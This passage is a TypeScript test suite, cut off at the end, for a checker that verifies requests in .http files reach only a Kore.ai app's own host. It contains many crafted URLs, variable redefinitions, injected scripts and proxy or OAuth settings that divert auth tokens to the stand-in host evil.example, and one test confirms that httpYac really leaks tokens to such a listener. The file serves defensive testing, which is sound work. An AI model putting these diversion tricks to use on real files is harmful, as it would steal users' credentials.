import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import { createRequire } from "node:module";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { promisify } from "node:util";
import encodeUrl from "encodeurl";
import fc from "fast-check";
import got from "got";
import { PATIENCE } from "../../scripts/test/patience.mjs";
import type { JwtApp } from "../../src/domain/apps/jwtApp";
import { type Destination, destinationsInSteps } from "../../src/domain/requests/destination/destination";
import { sharedVariables } from "../../src/domain/requests/destination/fileBlocks";
import { goesToOwnHost } from "../../src/domain/requests/destination/ownHost";
import { targetsOfLevel } from "../../src/domain/requests/write/requestTargets";
import { strictOrigin } from "../../src/domain/requests/destination/strictUrl";
import { writeRequestFile, writeRequests } from "../../src/domain/requests/write/writeRequest";
import { IS_FULL, runs } from "../sample";
import { sampleApp } from "../unit/apps/sampleApp";
import { restClientUrl } from "./clients/restClientReading";
import { atOnce } from "../../src/domain/steps";

const destinationsIn = (text: string) => atOnce(destinationsInSteps(text));

const OWN = "platform.kore.ai";
const app = sampleApp({ host: OWN }) as JwtApp;

/** The request whose address is in that line of a file. */
function at(text: string, part: string): Destination {
  const line = text.split("\n").findIndex((each) => each.includes(part));
  const found = destinationsIn(text).find((each) => each.line === line);
  return found ?? assert.fail(`no request at ${part}`);
}
const unasked = (text: string, part = "GET"): boolean => goesToOwnHost(at(text, part), app);

describe("Where a request goes", () => {
  describe("is asked about where an address goes elsewhere, or may", () => {
    const addresses: readonly (readonly [string, string | undefined])[] = [
      ["https://platform.kore.ai{@evil.example/x", "evil.example"],
      ["https://platform.kore.ai}@evil.example/x", "evil.example"],
      ["https://platform.kore.ai @evil.example/x", "evil.example"],
      ["https://platform.kore.ai\u00a0@evil.example/x", "evil.example"],
      ["https://platform.kore.ai\u2028@evil.example/x", "evil.example"],
      ["https://platform.kore.ai@evil.example/x", "evil.example"],
      ["https://platform.kore.ai:pass@evil.example/x", "evil.example"],
      ["https://platform.kore.ai%40evil.example/x", undefined],
      ["https://platform.kore.ai\\@evil.example/x", "platform.kore.ai"],
      ["https://evil.example\\.platform.kore.ai/x", "evil.example"],
      ["https:///evil.example/x", "evil.example"],
      ["https:evil.example/x", "evil.example"],
      ["https:/evil.example/x", "evil.example"],
      ["https://{@evil.example/x", "evil.example"],
      ["https://platform.kore.ai\u3002evil.example/x", "platform.kore.ai.evil.example"],
      ["https://plаtform.kore.ai/x", "xn--pltform-3fg.kore.ai"],
      ["https://platform.kore.ai./x", "platform.kore.ai."],
      ["https://platform.kore.ai:8443/x", "platform.kore.ai:8443"],
      ["http://platform.kore.ai/x", "platform.kore.ai"],
      ["ftp://platform.kore.ai/x", "platform.kore.ai"],
      ["//platform.kore.ai/x", undefined],
      ["/api/public/bots", undefined],
      ["platform.kore.ai/x", undefined],
      ["https://0x7f.1/x", "127.0.0.1"],
      ["https://platform.kore.ai\t.evil.example/x", "platform.kore.ai.evil.example"],
      ["https://{{nobody}}/x", undefined],
      ["{{nobody}}/x", undefined],
      ["https://platform.kore.ai{{nobody}}/x", undefined],
    ];
    for (const [address, host] of addresses) {
      it(JSON.stringify(address), () => {
        const text = `GET ${address}\nauth: x\n`;
        assert.equal(unasked(text), false);
        assert.deepEqual(at(text, "GET").hosts, host === undefined ? [] : [host]);
        // The same inside a variable's value.
        const variable = `@host = ${address}\n\n###\nGET {{host}}\nauth: x\n`;
        assert.equal(unasked(variable), false);
      });
    }

    it("with a Host header that names another host, which REST Client and httpYac take for an address without one", () => {
      assert.deepEqual(at("GET https:///evil.example\nHost: platform.kore.ai\n", "GET").hosts.slice(0, 1), [
        "evil.example",
      ]);
      assert.equal(unasked("GET https://{@evil.example\nHost: platform.kore.ai\n"), false);
      assert.deepEqual(at("GET /api\nHost: evil.example\n", "GET").hosts, ["evil.example"]);
      assert.equal(unasked("GET /api\nHost: platform.kore.ai:443\n"), false);
      assert.equal(unasked("GET https://platform.kore.ai/x\nhost : evil.example\n"), false);
      assert.equal(unasked("GET https://platform.kore.ai/x\nHost: platform.kore.ai\n"), true);
    });
  });

  describe("is told with each host that a client may call, or that there are more", () => {
    const values = ["a", "b", "c"].map((name) => [1, 2, 3, 4, 5, 6].map((count) => `@${name} = /${name}${count}`));
    const many = values[0]?.map((_, index) => `###\n${values.map((each) => each[index]).join("\n")}\nGET https://x\n`);
    const own = "@a = platform.kore.ai\n@b = /b\n@c = /c";
    for (const [what, text] of Object.entries({
      "by the last definitions of two variables in its host":
        "@a = platform\n@b = kore\n@c = ai\n\n###\nGET https://{{a}}.{{b}}.{{c}}/\n\n###\n@a = z\n@b = evil\n@c = example\n",
      "by the last definition of one, among many values of others": `${many?.join("\n")}\n###\n${own}\nGET https://{{a}}{{b}}{{c}}/x\n\n###\n@a = evil.example\n`,
    }))
      it(what, () => {
        const found = at(text, "GET https://{{a}}");
        const last = (name: string) => [...text.matchAll(new RegExp(`^@${name} = (.*)$`, "gm"))].at(-1)?.[1] ?? "";
        const url = (/GET (https:\/\/\{\{a.*)/.exec(text)?.[1] ?? "").replace(/\{\{(\w)\}\}/g, (_, name: string) =>
          last(name),
        );
        assert.match(url, /evil\.?example/);
        assert.ok(found.hosts.includes(new URL(url).host), found.hosts.join());
        assert.deepEqual([found.hasMoreHosts, goesToOwnHost(found, app)], [true, false]);
      });
    it("by a definition with another variable in it", () => {
      const own = "### A\n@host = platform.kore.ai\nGET https://{{host}}/x\n\n###\n";
      assert.deepEqual(at(`${own}@x = {{y}}\n@y = evil.example\n@host = {{x}}\n`, "/x").hosts, [OWN, "evil.example"]);
      assert.equal(at(`${own}@host = {{x}}\n`, "/x").hasMoreHosts, true);
    });
    it("by an address that is too long to be read", () => {
      const own = "@host = platform.kore.ai\n\n###\nGET https://{{host}}/x\n\n###\n";
      const found = at(`${own}@host = evil.example/${"y".repeat(19_980)}\n`, "/x");
      assert.deepEqual([found.hosts, found.hasMoreHosts], [["platform.kore.ai", "evil.example"], true]);
      const parts = Array.from({ length: 30 }, (_, index) => `p${index}`);
      const many = `${parts.map((name) => `@${name} = a`).join("\n")}\n\n###\nGET https://${parts.map((name) => `{{${name}}}`).join("")}/x\n`;
      assert.deepEqual([at(many, "/x").hasMoreHosts, unasked(many, "/x")], [true, false]);
    });
    const hosts = Array.from({ length: 7 }, (_, index) => `h${index}.example`);
    for (const [what, behind] of Object.entries({
      "headers that name hosts": hosts.map((host) => `Host: ${host}`).join("\n"),
      "requests in its body": `\n${hosts.map((host) => `GET https://${host}/`).join("\n")}`,
    }))
      it(`by many ${what}`, () => {
        const first = (count: number) => behind.split("\n").slice(0, count).join("\n");
        assert.equal(at(`GET https://platform.kore.ai/x\n${behind}\n`, "/x").hasMoreHosts, true);
        assert.equal(at(`GET https://platform.kore.ai/x\n${first(3)}\n`, "/x").hasMoreHosts, undefined);
      });
  });

  describe("is told by variables only where every client takes the same value", () => {
    const own = "@host = https://platform.kore.ai";
    for (const [why, text, expected] of [
      ["defined once above all requests", `${own}\n\n### A\nGET {{host}}/x\n`, true],
      ["defined in the block itself", `### A\n${own}\nGET {{host}}/x\n`, true],
      ["defined in two parts", "@name = platform\n@host = https://{{name}}.kore.ai\n\n###\nGET {{ host }}/x\n", true],
      ["defined twice alike", `${own}\n${own}\n\n###\nGET {{host}}/x\n`, true],
      ["not defined", "GET {{host}}/x\n", false],
      ["defined twice", `${own}\n\n###\nGET {{host}}/x\n\n###\n@host = https://evil.example\n`, false],
      [
        "defined in another request's body, which REST Client takes",
        `${own}\n\n###\nGET {{host}}/x\n\n### B\nPOST https://platform.kore.ai/y\n\n@host = https://evil.example\n`,
        false,
      ],
      [
        "defined without an equals sign, which httpYac takes",
        `${own}\n\n###\nGET {{host}}/x\n\n### B\n@host https://evil.example\n`,
        false,
      ],
      ["defined lazily", `${own}\n\n###\nGET {{host}}/x\n\n###\n@host := https://evil.example\n`, false],
      ["defined globally", `${own}\n\n###\nGET {{host}}/x\n\n###\n@global.host = https://evil.example\n`, false],
      [
        "defined behind white space",
        `${own}\n\n###\nGET {{host}}/x\n\n###\n\u00a0@host = https://evil.example\n`,
        false,
      ],
      ["in quotes, which httpYac takes off", '@host = "https://platform.kore.ai"\n\n###\nGET {{host}}/x\n', false],
      [
        "with a backslash, which REST Client takes off",
        "@host = https://platform.kore\\.ai\n\n###\nGET {{host}}/x\n",
        false,
      ],
      [
        "defined in another request alone, which httpYac doesn't see",
        `### A\n${own}\nGET {{host}}/y\n\n### B\nGET {{host}}/x\n`,
        false,
      ],
      [
        "defined in a block with a title, which is no shared one for httpYac",
        `### Variables\n${own}\n\n### B\nGET {{host}}/x\n`,
        false,
      ],
      ["named like a request, whose response it is", `${own}\n\n###\n# @name host\nGET {{host}}/x\n`, false],
      ["asked for", `${own}\n\n###\n# @prompt host\nGET {{host}}/x\n`, false],
      ["in a circle", "@a = {{b}}\n@b = {{a}}\n\n###\nGET https://{{a}}/x\n", false],
    ] as const) {
      it(why, () => assert.equal(unasked(text, "/x\n".trim()), expected));
    }
  });

  describe("is asked about where padding hides what counts", () => {
    const padding = " ".repeat(41_000);
    for (const [why, text] of [
      ["in a definition", `@host = https://platform.kore.ai${padding}@evil.example\n\n###\nGET {{host}}/x\n`],
      [
        "in front of a definition",
        `@host = https://platform.kore.ai\n${padding}@host = https://evil.example\n\n###\nGET {{host}}/x\n`,
      ],
      ["in a request line", `GET https://platform.kore.ai${padding}@evil.example/x\n`],
      ["in a name", `@${"a".repeat(300)} = https://platform.kore.ai\n###\nGET {{${"a".repeat(300)}}}/x\n`],
      [
        "in front of a nested request",
        `GET https://platform.kore.ai/x\n\n${" ".repeat(300)}GET https://evil.example/\n`,
      ],
      ["in an expression", `GET https://platform.kore.ai/x\nx: {{${padding}request.url="https://evil.example"}}\n`],
    ] as const) {
      it(why, () =>
        assert.deepEqual(
          destinationsIn(text).filter((each) => goesToOwnHost(each, app)),
          [],
        ),
      );
    }
  });

  it("is asked about where an answer may be taken for a variable, in each way that clients name it", () => {
    const own = "https://platform.kore.ai";
    for (const text of [
      `@myHost = ${own}\n\n### my host\nGET https://evil.example\n\n###\nGET {{myHost}}/x\n`,
      `@my-host = ${own}\n\n### My  Host\nGET https://evil.example\n\n###\nGET {{my-host}}/x\n`,
      `@host = ${own}\n\n###\n#\u00a0@name host\nGET https://evil.example\n\n###\nGET {{host}}/x\n`,
      `@hostResponse = ${own}\n\n###\n// @name host\nGET https://evil.example\n\n###\nGET {{hostResponse}}/x\n`,
      // What is defined below its use has an earlier value, or one of an environment.
      `###\n@h = {{other}}\n@other = ${own}\nGET {{h}}/x\n`,
      `@h = {{other}}\n@other = ${own}\n\n###\nGET {{h}}/x\n`,
      `@h = {{other}}\n\n###\n@other = ${own}\nGET {{h}}/x\n`,
      `###\nGET {{host}}/x\n\n###\n@host = ${own}\n`,
    ])
      assert.equal(unasked(text, "/x"), false, text);
    assert.equal(unasked(`@other = ${own}\n@h = {{other}}\n\n###\nGET {{h}}/x\n`, "/x"), true);
    assert.equal(unasked(`@other = ${own}\n\n###\n@h = {{other}}\nGET {{h}}/x\n`, "/x"), true);
  });

  it("is asked about where the header “Authorization” makes httpYac ask another server", () => {
    const head =
      "@a_tokenEndpoint = https://evil.example/t\n@a_clientId = x\n@tok = eyJ\n@a_clientSecret = {{tok}}\n@o = oauth2\n@p = oauth2 client_credentials a\n@b = bearer eyJ.a.b\n\n###\nGET https://platform.kore.ai/x\n";
    for (const value of [
      "oauth2",
      "oauth2 client_credentials a",
      "OpenID a",
      "{{o}}",
      "{{p}}",
      "{{nobody}}",
      "{{$processEnv SOMETHING}}",
      "{{o}} client_credentials a",
      "digest a b",
      "aws a b",
      "cognito a",
      "bearer",
    ]) {
      assert.equal(unasked(`${head}Authorization: ${value}\n`, "GET"), value === "bearer", value);
      assert.equal(unasked(`${head}  authorization : ${value}\n`, "GET"), value === "bearer", value);
    }
    for (const value of [
      "bearer eyJ.a.b",
      "Bearer {{tok}}",
      "eyJ.a.b",
      "{{tok}}",
      "{{ b }}",
      "{{$processEnv JWT_APPS_MINE}}",
      "Basic abc=",
    ])
      assert.equal(unasked(`${head}Authorization: ${value}\n`, "GET"), true, value);
  });

  it("finds whatever a client may take for a request", () => {
    for (const text of [
      "ws://evil.example/x\nauth: t\n",
      "ws:evil.example/x\nauth: t\n",
      "mqtt://evil.example/x\nauth: t\n",
      "\u00a0# note\nGET https://evil.example/x\nauth: t\n",
      "< ./pre.js\nGET https://evil.example/x\nauth: t\n",
      "< {%\n%}\nGET https://evil.example/x\n",
      "some words\nGET https://evil.example/x\n",
      "curl https://evil.example/x\n",
      "GRPC evil.example:443/x\n",
      "WS wss://evil.example/x\n",
      "/relative\n",
    ]) {
      const [found, ...more] = destinationsIn(text);
      assert.ok(found && more.length === 0, text);
      assert.ok(found.doubts.length > 0, text);
    }
    for (const text of ["", "# jwt-app: Sample\n@host = x\n", "auth: eyJ.a.b\n", "\t🤖 eyJ.a.b eyJ.a.b\n"])
      assert.deepEqual(destinationsIn(text), [], text);
    assert.equal(unasked("GET https://platform.kore.ai\n  .evil.example:443/x\n"), false);
    assert.equal(
      unasked("@a = {{b}}\n@b = x\\nHost: evil.example\n\n###\nGET https://platform.kore.ai/{{a}}\n"),
      false,
    );
  });

  describe("is asked about where something in the file may change it", () => {
    const request = "\n###\nGET https://platform.kore.ai/x\nauth: t\n";
    for (const [why, text] of [
      ["a script of httpYac", `{{\nexports.host = "https://evil.example";\n}}\n${request}`],
      ["a script for each request", `{{@request\nrequest.url = "https://evil.example";\n}}\n${request}`],
      ["a script in the body", `${request}\n{{\nrequest.url = "https://evil.example";\n}}\n`],
      ["an expression in a header", `${request}x: {{request.url = "https://evil.example"}}\n`],
      ["an expression that calls", `${request}x: {{fetch("https://evil.example")}}\n`],
      ["an expression with a template", `${request}x: {{a\`\`}}\n`],
      ["an expression in another request", `${request}\n###\nGET https://platform.kore.ai/y?a={{require('fs')}}\n`],
      ["a script of JetBrains", `< {% request.variables.set("x", "y") %}\n${request}`],
      ["a handler of JetBrains", `${request}\n\n> {% client.global.set("x", "y") %}\n`],
      ["a handler in a file", `${request}\n\n> ./handler.js\n`],
      ["an import", `# @import ./evil.http\n${request}`],
      ["a reference", `${request.replace("###", "###\n# @ref login")}`],
      ["an import of JetBrains", `import ./evil.http\n${request}`],
      ["a run of JetBrains", `${request}\n\n###\nrun #login (@host=https://evil.example)\n`],
      ["a proxy", `${request.replace("###", "###\n# @proxy http://evil.example")}`],
      ["no check of the certificate", `${request.replace("###", "###\n// @no-reject-unauthorized")}`],
      ["httpYac's own variables", `@request_proxy = http://evil.example\n${request}`],
      ["an assertion that computes", `${request}\n\n?? js response.statusCode == 200\n`],
      ["headers from an object", `${request}...headers\n`],
      ["a file whose expressions are computed", `${request}\n<@ ./body.json\n`],
      ["a separator for httpYac alone", `${request}\n\n  ###\nGET https://evil.example/\n`],
      ["another request for httpYac alone", `${request}\n\nGET https://evil.example/\nauth: t\n`],
      ["a comment that is none for all", `${request.replace("GET", "/*\nGET")}`],
    ] as const) {
      it(why, () => {
        assert.deepEqual(
          destinationsIn(text).filter((each) => goesToOwnHost(each, app)),
          [],
        );
        assert.ok(destinationsIn(text.replace(/^[^]*(?=###\nGET)/, "")).length > 0, "no request");
      });
    }
  });

  it("is plain for what people write", () => {
    for (const text of [
      "GET https://platform.kore.ai/api/public/bots\nauth: x",
      "https://platform.kore.ai/api/public/bots HTTP/1.1\r\nauth: x\r\n\r\n{}\r\n",
      '# jwt-app: Mine\n\n### List\n# @name list\n# @no-redirect\nPOST https://PLATFORM.kore.ai:443/api/{{botId}}/x\n  ?skip={{skip}}\n  &limit=10 HTTP/1.1\nauth: {{$processEnv JWT_APPS_MINE}}\nContent-Type: application/json\n# not sent\nX-Id: {{$guid}}\n\n{"a": "{{list.response.body.$.items[0].id}}", "t": {{$timestamp -1 d}}}\n\n>> out.json\n',
      "GET https://platform.kore.ai",
      "GET https://platform.kore.ai/x?redirect=https://elsewhere.example/&who=jane@example.com",
      "POST https://platform.kore.ai/x\nContent-Type: application/xml\n\n<a>\n  <b/>\n</a>\n",
    ]) {
      assert.deepEqual(
        destinationsIn(text).map((each) => [each.origin, each.doubts, goesToOwnHost(each, app)]),
        [[{ scheme: "https", host: OWN }, [], true]],
        text,
      );
    }
  });

  it("is plain for every request that is written for an app", async () => {
    for (const createdIn of ["xo", "admin", "tables"] as const) {
      for (const credentials of ["pasted", "generated"] as const) {
        for (const host of [undefined, OWN, "localhost:9000", "[::1]:80"]) {
          const { host: _, ...without } = sampleApp({
            createdIn,
            credentials,
            tables: [{ kind: "table", name: "Late orders", read: true, write: true, delete: true }],
          }) as JwtApp;
          const one: JwtApp = { ...without, ...(host !== undefined && { host }) };
          if (host === "[::1]:80") continue;
          const targets = targetsOfLevel(one);
          const text = await writeRequestFile(targets, {
            app: one,
            placement: { kind: "line", mint: async () => "eyJ" },
          });
          const found = destinationsIn(text);
          assert.equal(found.length, targets.length);
          assert.deepEqual(
            found.filter((each) => !goesToOwnHost(each, one)),
            [],
            `${createdIn} ${credentials} ${host}`,
          );
        }
      }
    }
  });

  it("is plain for requests that are inserted behind others, whatever these define", async () => {
    const targets = targetsOfLevel(app).slice(0, 3);
    for (const before of [
      "",
      "@host = https://platform.kore.ai\n\n",
      "### One\n@host = https://platform.kore.ai\nGET {{host}}/x\n\n",
      "@host = https://evil.example\n\n### One\nGET {{host}}/x\n\n",
    ]) {
      const variables = new Map(
        [...before.matchAll(/^@(\w+) = (.*)$/gm)].map(([, name = "", value = ""]) => [name, value]),
      );
      const text =
        before +
        (await writeRequests(
          targets,
          { app, placement: { kind: "line", mint: async () => "eyJ" } },
          { variables, shared: sharedVariables(before), isTied: false },
        ));
      const inserted = destinationsIn(text).filter(({ line }) => line >= before.split("\n").length - 1);
      assert.equal(inserted.length, 3);
      assert.deepEqual(
        inserted.filter((each) => !goesToOwnHost(each, app)),
        [],
        text,
      );
    }
  });

  it("is the app's own host and port alone, or without a host a known one of the platform's", () => {
    const goes = (address: string, changes: Partial<JwtApp>, localPlatform?: string): boolean => {
      const { host: _, ...rest } = app;
      return goesToOwnHost(at(`GET ${address}/x`, "GET"), { ...rest, ...changes }, localPlatform);
    };
    assert.equal(goes("https://de-platform.kore.ai", { host: OWN }), false);
    assert.equal(goes("https://de-platform.kore.ai", {}), true);
    assert.equal(goes("https://evil.kore.ai", {}), false);
    assert.equal(goes("http://platform.kore.ai", {}), false);
    assert.equal(goes("https://bots.example:8443", { host: "bots.example:8443" }), true);
    assert.equal(goes("https://bots.example", { host: "bots.example:8443" }), false);
    assert.equal(goes("http://bots.example", { host: "bots.example" }), false);
    assert.equal(goes("http://localhost:8787", { host: "localhost:8787" }), true);
    assert.equal(goes("http://127.0.0.1:8787", { host: "localhost:8787" }), true);
    assert.equal(goes("http://localhost:8788", { host: "localhost:8787" }), false);
    assert.equal(goes("http://localhost:8787", { host: OWN }), false);
    assert.equal(goes("http://localhost:8787", {}), false);
    assert.equal(goes("http://localhost:8787", { credentials: "generated" }), true);
    assert.equal(goes("http://127.0.0.1:50123", { credentials: "generated" }), false);
    assert.equal(goes("http://127.0.0.1:50123", { credentials: "generated" }, "127.0.0.1:50123"), true);
    assert.equal(goes("https://platform.kore.ai", { credentials: "generated" }), false);
  });

  it("never throws, and a longer file than is read is never certain", () => {
    fc.assert(fc.property(fc.string({ unit: "binary", maxLength: 200 }), (text) => void destinationsIn(text)));
    assert.equal(unasked(`GET https://platform.kore.ai/x\n\n${"x".repeat(1_000_001)}`), false);
  });

  it("has an origin only where the URL standard's parser agrees", () => {
    const piece = fc.constantFrom(
      "https://",
      "http:",
      "//",
      "/",
      "\\",
      "@",
      ":",
      "{",
      "}",
      " ",
      "\t",
      "\u00a0",
      "%40",
      "platform.kore.ai",
      "evil.example",
      "443",
      ".",
      "#",
      "?",
      "ai",
      "\u3002",
      "[::1]",
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (parts) => {
        const text = `https://${parts.join("")}`;
        const strict = strictOrigin(text);
        if (!strict) return;
        const parsed = new URL(text);
        assert.deepEqual(
          [strict.host, `${strict.scheme}:`, parsed.username, parsed.password],
          [parsed.host, parsed.protocol, "", ""],
        );
      }),
      runs(2_000, { full: 50_000 }),
    );
  });
});

/** Lines that clients read differently, and lines that they don't. */
const line = fc.oneof(
  fc.constantFrom(
    ...[
      "@host = https://platform.kore.ai",
      "@host = https://evil.example",
      "@host https://evil.example",
      "@host := https://evil.example",
      "  @host = https://evil.example",
      '@host = "https://evil.example"',
    ],
    ...[
      "### host",
      "### o ther",
      "#\u00a0@name host",
      "\u00a0# x",
      "Authorization: {{other}}",
      "Authorization: bearer {{a}}",
      "Authorization: oauth2 client_credentials a",
      "ws://evil.example/x",
      "  .evil.example/x",
      `${" ".repeat(250)}GET https://evil.example/`,
    ],
    ...[
      "@host = https://platform.kore.ai{@evil.example",
      "@other = platform.kore.ai",
      "@other = evil.example",
      "@host = https://{{other}}",
      "@other = platform\\.kore.ai",
      "@a = b",
      "@request = https://evil.example",
    ],
    ...[
      "",
      "",
      "###",
      "### title",
      "####",
      " ###",
      "# comment",
      "// comment",
      "# @name host",
      "# @name one",
      "/*",
      "*/",
      "{}",
      "auth: x",
      "Host: evil.example",
      "Host: platform.kore.ai",
      "plain text",
      "?q=1",
      "&a={{other}}",
      "/evil.example",
      "<> out.json",
    ],
  ),
  fc
    .tuple(
      fc.constantFrom("GET ", "POST ", "", "get ", "REPORT ", "  GET "),
      fc.constantFrom(
        "{{host}}",
        "https://{{other}}",
        "https://platform.kore.ai",
        "https://platform.kore.ai:443",
        "https://evil.example",
        "https://",
        "https:///",
        "{{ host }}",
        "{{{host}}",
        "https://platform.kore.ai{{a}}",
        "",
      ),
      fc.constantFrom(
        "/x",
        "/x",
        "@evil.example/x",
        "{@evil.example",
        " @evil.example",
        "\\@evil.example",
        "?x=@evil.example",
        "#@evil.example",
        "",
        ".evil.example/",
        "/{{other}}",
      ),
      fc.constantFrom("", "", " HTTP/1.1", " HTTP/1.1 x"),
    )
    .map((parts) => parts.join("")),
);

/** A file that anybody could have written, with some of those lines among its own. */
const hostileFile = fc
  .tuple(
    fc.subarray(["@host = https://platform.kore.ai", "@other = platform.kore.ai", "@a = b", "# a comment", ""]),
    fc.array(
      fc.tuple(
        fc.constantFrom("###", "### title", "####"),
        fc.subarray(["# jwt-app: Sample", "@host = https://platform.kore.ai"]),
        fc.constantFrom(
          "GET {{host}}/x",
          "POST https://{{other}}/y?a={{a}}",
          "GET https://platform.kore.ai",
          "https://platform.kore.ai/z HTTP/1.1",
        ),
        fc.subarray(["auth: x", "# c", "Host: platform.kore.ai", "X: {{a}}"]),
        fc.subarray(["", "{}", '{"b": "{{a}}"}']),
      ),
      { minLength: 1, maxLength: 3 },
    ),
    fc.array(fc.tuple(fc.nat(), line), { maxLength: 2 }),
    fc.array(
      fc.tuple(
        fc.nat(),
        fc.constantFrom(
          "{",
          "}",
          "{{",
          "}}",
          "@",
          "\\",
          "\u00a0",
          "\u2028",
          "\t",
          " ",
          "\r",
          "\n",
          "#",
          "/",
          ":",
          "%",
          "`",
          '"',
          "'",
          "=",
          "?",
          "&",
          "<",
          ">",
          "!",
          "$",
          "\ufeff",
          "\u200b",
          ".",
          "-",
          "evil.example",
          "@evil.example",
          "{@evil.example/",
        ),
      ),
      { maxLength: 2 },
    ),
  )
  .map(([head, blocks, inserted, characters]) => {
    const lines = [
      ...head,
      ...blocks.flatMap(([separator, above, request, headers, body]) => [
        separator,
        ...above,
        request,
        ...headers,
        "",
        ...body,
      ]),
    ];
    for (const [place, text] of inserted) lines.splice(place % (lines.length + 1), 0, text);
    return characters.reduce(
      (text, [place, character]) =>
        text.slice(0, place % (text.length + 1)) + character + text.slice(place % (text.length + 1)),
      lines.join("\n"),
    );
  });

describe("What httpYac sends elsewhere", () => {
  it("is asked about, of each file whose token a listener on 127.0.0.1 gets from httpYac's own program", async () => {
    const folder = await mkdtemp(join(tmpdir(), "diverted-"));
    const received = new Map<number, Set<string>>();
    const listen = async (): Promise<Server> => {
      const server = createServer({ maxHeaderSize: 1_000_000 }, (request, response) => {
        const { port } = server.address() as AddressInfo;
        const seen = received.get(port) ?? new Set();
        received.set(port, seen);
        for (const found of JSON.stringify(request.headers).matchAll(/token-(\d+)/g)) seen.add(found[1] ?? "");
        const basic = /^Basic (.+)$/.exec(request.headers.authorization ?? "")?.[1];
        for (const found of Buffer.from(basic ?? "", "base64")
          .toString()
          .matchAll(/token-(\d+)/g))
          seen.add(found[1] ?? "");
        response.setHeader("content-type", "text/plain").end("{}");
      });
      await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
      return server;
    };
    const [own, evil] = [await listen(), await listen()];
    const portOf = (server: Server): number => (server.address() as AddressInfo).port;
    const [here, there] = [`127.0.0.1:${portOf(own)}`, `127.0.0.1:${portOf(evil)}`];
    const texts = [
      `GET http://${here}{@${there}/x\nauth: TOKEN\n`,
      `@host = http://${here}${" ".repeat(41_000)}@${there}\n\n###\nGET {{host}}/x\nauth: TOKEN\n`,
      `@host = http://${here}\n\n###\nGET {{host}}/x\nauth: TOKEN\n\n###\n@host http://${there}\n`,
      `@host = http://${here}\n{{\nexports.host = "http://${there}";\n}}\n\n###\nGET {{host}}/x\nauth: TOKEN\n`,
      `###\n{{@request\nrequest.url = "http://${there}/x";\n}}\nGET http://${here}/x\nauth: TOKEN\n`,
      `###\nGET http://${here}/x\nx: {{request.url = "http://${there}/x"}}\nauth: TOKEN\n`,
      `@a_tokenEndpoint = http://${there}/t\n@a_clientId = x\n@tok = TOKEN\n@a_clientSecret = {{tok}}\n\n###\nGET http://${here}/x\nauth: {{tok}}\nAuthorization: oauth2 client_credentials a\n`,
    ];
    const ours = { ...app, host: here };
    try {
      for (const [index, text] of texts.entries())
        await writeFile(join(folder, `${index}.http`), text.replaceAll("TOKEN", `token-${index}`));
      await writeFile(join(folder, "own.http"), `GET http://${here}/x\nauth: token-99\n`);
      const script = join(dirname(createRequire(import.meta.url).resolve("httpyac/package.json")), "bin/httpyac.js");
      await promisify(execFile)(process.execPath, [script, "send", "*.http", "--all", "--silent"], {
        cwd: folder,
        timeout: PATIENCE.test,
      }).catch(() => undefined);
      assert.deepEqual(
        [...(received.get(portOf(evil)) ?? [])].sort(),
        texts.map((_, index) => String(index)),
        "what the other host got",
      );
      assert.ok(received.get(portOf(own))?.has("99"));
      for (const text of texts)
        assert.deepEqual(
          destinationsIn(text).filter((each) => goesToOwnHost(each, ours)),
          [],
          text.slice(0, 200),
        );
      assert.ok(goesToOwnHost(at(`GET http://${here}/x\nauth: t\n`, "GET"), ours));
    } finally {
      for (const server of [own, evil]) await new Promise((resolve) => server.close(resolve));
      await rm(folder, { recursive: true });
    }
  });
});

describe("What a question names", () => {
  const names = ["a", "b", "c", "d"];
  const plain = ["h1.example", "h2.example", ".h3.example", "/x", "@"];
  /** With variables of these names in it. */
  const textOf = (of: readonly string[]) =>
    fc
      .array(fc.constantFrom(...of.map((name) => `{{${name}}}`), ...plain), { minLength: 1, maxLength: 3 })
      .map((parts) => parts.join(""));
  // None is in itself, also not through others: what clients then read is no host of anybody's.
  const definition = fc
    .nat({ max: names.length - 1 })
    .chain((index) => textOf(names.slice(index + 1)).map((value) => `@${names[index] ?? ""} = ${value}`));
  const block = fc
    .tuple(fc.array(definition, { maxLength: 4 }), textOf(names), fc.array(definition, { maxLength: 2 }))
    .map(([above, address, below]) => [...above, `GET https://${address}/x`, "", ...below].join("\n"));

  it("is the host that REST Client calls, unless it says that there are others", () => {
    const often = runs(1_000, { full: 30_000 });
    let named = 0;
    fc.assert(
      fc.property(fc.array(block, { minLength: 1, maxLength: 5 }), (blocks) => {
        const file = blocks.join("\n###\n");
        for (const { line, hosts, hasMoreHosts } of destinationsIn(file)) {
          const url = restClientUrl(file, line);
          // With a brace in it, as of a variable that isn't there, it is nobody's.
          if (!url || /[{}]/.test(url.host) || hosts.length === 0 || hasMoreHosts) continue;
          assert.ok(hosts.includes(url.host), `${url.host} is none of ${hosts.join()}, line ${line + 1} of\n${file}`);
          named++;
        }
      }),
      often,
    );
    assert.ok(named > often.numRuns, `only ${named} hosts were named`);
  });
});

describe("What goes unasked", () => {
  it("goes to the app's host with REST Client", () => {
    const often = runs(5_000, { full: 100_000 });
    let certain = 0;
    fc.assert(
      fc.property(hostileFile, (text) => {
        for (const destination of destinationsIn(text)) {
          if (!goesToOwnHost(destination, app)) continue;
          certain++;
          const url = restClientUrl(text, destination.line);
          assert.deepEqual([url?.protocol, url?.host, url?.username], ["https:", OWN, ""], text);
        }
      }),
      often,
    );
    assert.ok(certain > often.numRuns / 10, `only ${certain} requests were certain, so little was tried`);
  });

  it("is read as `got` reads it, which REST Client calls with it", async () => {
    for (const address of [
      "https://platform.kore.ai/x",
      "https://platform.kore.ai{@evil.example/x",
      "https://platform.kore.ai @evil.example/x",
      "https://platform.kore.ai\u00a0@evil.example/x",
      "https:///evil.example",
      "https://{@evil.example",
      "https://platform.kore.ai\\@evil.example/x",
      "https://plаtform.kore.ai/x",
      "https://platform.kore.ai:443&@evil.example/",
    ]) {
      let called: URL | undefined;
      const hook = (options: { url?: URL }): never => {
        called = options.url;
        throw new Error("far enough");
      };
      await got(encodeUrl(address), { retry: 0, hooks: { beforeRequest: [hook] } }).catch(() => undefined);
      assert.equal(called?.host, restClientUrl(`GET ${address}\n`, 0)?.host, address);
    }
  });

  it("goes to the app's host with httpYac, by its own program", async () => {
    const folder = await mkdtemp(join(tmpdir(), "destination-"));
    try {
      // A hook writes down where each request would go, and ends it there.
      const hook = `const { appendFileSync } = require("node:fs");
